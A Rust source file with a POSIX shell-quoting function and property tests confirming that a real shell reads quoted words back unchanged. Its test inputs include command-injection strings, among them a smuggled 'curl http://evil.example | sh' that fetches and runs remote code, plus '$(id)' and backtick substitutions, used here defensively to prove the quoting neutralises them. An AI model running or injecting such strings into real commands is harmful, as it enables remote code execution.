//! Words of a command line that people paste into a shell.

use std::borrow::Cow;

/// A word as a POSIX shell reads it back: itself if nothing in it is special, else in single quotes.
///
/// Source: POSIX, "Shell Command Language", 2.2.2: in single quotes all characters are literal, and a single
/// quote cannot be among them.
pub fn quote(word: &str) -> Cow<'_, str> {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./:@%+=,".contains(c);
    match !word.is_empty() && word.chars().all(is_plain) {
        true => Cow::Borrowed(word),
        false => Cow::Owned(format!("'{}'", word.replace('\'', "'\\''"))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use std::process::Command;

    /// What a real shell makes of these words.
    fn read_back(words: &[String]) -> Vec<String> {
        let quoted: Vec<_> = words.iter().map(|word| quote(word)).collect();
        let line = format!("printf '%s\\0' {}", quoted.join(" "));
        let printed = Command::new("sh").args(["-c", &line]).output().unwrap();
        assert!(printed.status.success(), "{line:?}");
        let printed = String::from_utf8(printed.stdout).unwrap();
        let words = printed.strip_suffix('\0').unwrap().split('\0');
        words.map(str::to_owned).collect()
    }

    #[test]
    fn a_shell_reads_back_what_was_quoted() {
        let words = [
            "",
            "invalidation_error/20261121020304567891abcde01234_E2QWRUHAPOMQZL.txt",
            "https://sqs.eu-west-1.amazonaws.com/123456789012/s-SubmitQueue-x.fifo",
            "x; curl http://evil.example | sh",
            "$(id)",
            "`id`",
            "a'b",
            "'",
            "''; id; '",
            "\"$HOME\"",
            "~",
            "*",
            "a b\tc\nd",
            "\\",
            "!!",
            "-rf",
            "한글",
        ];
        let words = words.map(str::to_owned);
        assert_eq!(read_back(&words), words);
        assert_eq!(quote(&words[1]), words[1], "plain words stay as they are");
        assert_eq!(quote(&words[2]), words[2]);
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn a_shell_reads_back_any_words(
            words in proptest::collection::vec("[^\0]{0,10}|[-'\"$`\\\\;&|<>()*?!~# \n]{0,10}", 1..20),
        ) {
            prop_assert_eq!(read_back(&words), words);
        }
    }
}
